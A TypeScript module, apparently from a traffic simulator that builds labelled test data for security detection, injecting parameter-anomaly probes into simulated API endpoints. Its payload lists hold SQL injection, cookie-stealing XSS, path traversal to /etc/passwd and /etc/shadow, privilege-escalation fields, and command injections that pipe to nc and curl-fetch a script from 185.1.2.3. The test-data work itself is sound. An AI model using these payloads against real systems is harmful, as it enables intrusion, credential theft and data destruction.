import type { ParamValue } from '../topology.js';
import { edgeEndpoint } from '../topology.js';
import { attackerIp } from '../world.js';
import { type Injector, spread } from './types.js';

interface Probe {
  edge: string;
  /** the backend hop that receives the same parameters */
  backend?: { service: string; endpoint: string };
  values: (i: number) => Record<string, ParamValue>;
}

const SQLI = [
  "' OR '1'='1",
  "1' UNION SELECT username, password FROM users--",
  "shoes'; DROP TABLE orders;--",
  '1 AND SLEEP(5)',
];
const XSS = ['<script>alert(document.cookie)</script>', '"><img src=x onerror=alert(1)>', 'javascript:alert(1)'];
const TRAVERSAL = ['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fshadow', '....//....//windows/win.ini'];
const CMDI = ['books; cat /etc/passwd', 'toys | nc 185.1.2.3 4444', '$(curl http://185.1.2.3/x.sh)', '`id`'];

const PROBES: Record<string, Probe> = {
  sqli: {
    edge: 'GET /api/search',
    backend: { service: 'catalog', endpoint: 'GET /search' },
    values: (i) => ({ q: SQLI[i % SQLI.length], limit: 20 }),
  },
  xss: {
    edge: 'GET /api/search',
    backend: { service: 'catalog', endpoint: 'GET /search' },
    values: (i) => ({ q: XSS[i % XSS.length], limit: 10 }),
  },
  traversal: {
    edge: 'GET /api/products',
    backend: { service: 'catalog', endpoint: 'GET /products' },
    values: (i) => ({ category: TRAVERSAL[i % TRAVERSAL.length], page: 1, sort: 'price' }),
  },
  cmdi: {
    edge: 'GET /api/products',
    backend: { service: 'catalog', endpoint: 'GET /products' },
    values: (i) => ({ category: CMDI[i % CMDI.length], page: 1, sort: 'name' }),
  },
  out_of_range: {
    edge: 'GET /api/products',
    backend: { service: 'catalog', endpoint: 'GET /products' },
    values: (i) => ({ category: 'books', page: [-1, 99999, 1e9, -500][i % 4], sort: 'price' }),
  },
  unexpected_param: {
    edge: 'PATCH /api/account',
    backend: { service: 'users', endpoint: 'PATCH /users/{id}' },
    values: (i) => ({ locale: 'en-GB', newsletter: true, role: ['admin', 'superuser', 'root'][i % 3], is_admin: true }),
  },
  bad_enum: {
    edge: 'GET /api/products',
    backend: { service: 'catalog', endpoint: 'GET /products' },
    values: (i) => ({ category: 'books', page: 1, sort: ['price desc', 'password', 'internal_cost'][i % 3] }),
  },
};

/** someone probes an endpoint with injection-shaped, out-of-range or unexpected parameters */
export const paramAnomaly: Injector = {
  kind: 'param_anomaly',
  defaultDurationMs: 4 * 60_000,
  inject(world, w, req, rng) {
    const variant = req.variant && PROBES[req.variant] ? req.variant : rng.pick(Object.keys(PROBES));
    const probe = PROBES[variant];
    const edge = edgeEndpoint(probe.edge);
    const loggedIn = edge.anonymousShare === 0 || rng.chance(0.5);
    const user = loggedIn ? world.pickUser(rng) : null;
    const ip = user ? user.ips[0] : attackerIp(rng);
    const n = rng.int(6, 14);
    spread(rng, w, n).forEach((ts, i) => {
      world.edgeCall(ts, edge, {
        user,
        ip,
        prepare: (c) => {
          c.params = probe.values(i);
        },
        statusFor: (t) => (t.service === 'frontend' ? undefined : rng.chance(0.5) ? 400 : undefined),
      });
    });
    const subject = user ? { type: 'user', value: user.sub } : { type: 'ip', value: ip };
    return [
      {
        kind: 'param_anomaly',
        service: 'frontend',
        endpoint: probe.edge,
        subject,
        start: w.start,
        end: w.end,
        alsoAt: probe.backend ? [probe.backend] : [],
        note: variant,
      },
    ];
  },
};
